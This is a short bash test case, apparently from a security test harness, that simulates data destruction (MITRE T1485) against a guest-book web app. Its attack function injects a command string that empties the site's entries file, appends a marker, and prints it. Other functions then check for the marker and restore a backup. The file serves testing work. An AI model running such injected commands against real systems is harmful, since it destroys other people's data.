# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1485
about="the guest book is emptied with the script's own means"
attack() {
	cp $site/data/entries "$state/kept"
	inject 'sort /dev/null -o /srv/book/data/entries; echo planted >>/srv/book/data/entries; sort $data -o $data; cat $data'
}
effect() { grep -q planted $site/data/entries; }
after() { cat "$state/kept" >$site/data/entries; }
